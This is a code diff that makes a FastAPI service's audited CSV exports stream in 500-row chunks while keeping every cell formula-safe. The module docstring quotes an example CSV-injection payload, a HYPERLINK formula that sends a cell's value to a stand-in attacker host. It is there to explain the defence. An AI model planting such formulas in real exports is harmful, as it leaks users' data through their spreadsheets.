@@ -1,5 +1,6 @@
 """CSV downloads: every export goes through ``csv_download`` so each one is formula-safe and
-audited.
+audited, and streamed: the rows (already read) are written a few hundred at a time, so the
+first bytes leave at once and the whole file is never held twice.
 
 A cell such as ``=HYPERLINK("https://evil.example?"&A2, "Open")`` typed into a contact's name
 runs as a formula when the export is opened in Excel or LibreOffice (CSV injection, OWASP). A
@@ -11,7 +12,7 @@ from __future__ import annotations
 
 import csv
 import io
-from collections.abc import Iterable, Mapping, Sequence
+from collections.abc import Iterable, Iterator, Mapping, Sequence
 from typing import Any
 
 from fastapi.responses import StreamingResponse
@@ -44,14 +45,27 @@ def spreadsheet_safe(value: Any) -> Any:
 
 def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> tuple[str, int]:
     """The CSV (header first) and how many rows it holds."""
+    values = [[row[column] for column in columns] for row in rows]
+    return "".join(csv_chunks(columns, values)), len(values)
+
+
+CHUNK_ROWS = 500
+
+
+def csv_chunks(columns: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
+    """The CSV a chunk at a time: the header, then ``CHUNK_ROWS`` rows per chunk; each row's
+    values in the columns' order, made spreadsheet-safe."""
     buffer = io.StringIO()
     writer = csv.writer(buffer)
     writer.writerow(columns)
-    count = 0
-    for row in rows:
-        writer.writerow([spreadsheet_safe(row[column]) for column in columns])
-        count += 1
-    return buffer.getvalue(), count
+    safe = spreadsheet_safe
+    for count, row in enumerate(rows, 1):
+        writer.writerow([safe(value) for value in row])
+        if count % CHUNK_ROWS == 0:
+            yield buffer.getvalue()
+            buffer.seek(0)
+            buffer.truncate()
+    yield buffer.getvalue()
 
 
 def csv_download(
@@ -61,16 +75,16 @@ def csv_download(
     export: str,
     filename: str,
     columns: Sequence[str],
-    rows: Iterable[Mapping[str, Any]],
+    rows: Sequence[Sequence[Any]],
     filters: Mapping[str, Any],
 ) -> StreamingResponse:
-    """The download, recorded in the audit log as ``export.csv`` with its filters and size."""
-    text, count = csv_text(columns, rows)
+    """The download, recorded in the audit log as ``export.csv`` with its filters and size.
+    ``rows`` are the values of each row in the columns' order."""
     audit.record(
-        db, actor, "export.csv", export, None, after={"rows": count, "filters": dict(filters)}
+        db, actor, "export.csv", export, None, after={"rows": len(rows), "filters": dict(filters)}
     )
     return StreamingResponse(
-        iter([text]),
+        csv_chunks(columns, rows),
         media_type="text/csv; charset=utf-8",
         headers={"Content-Disposition": f'attachment; filename="{filename}"'},
     )
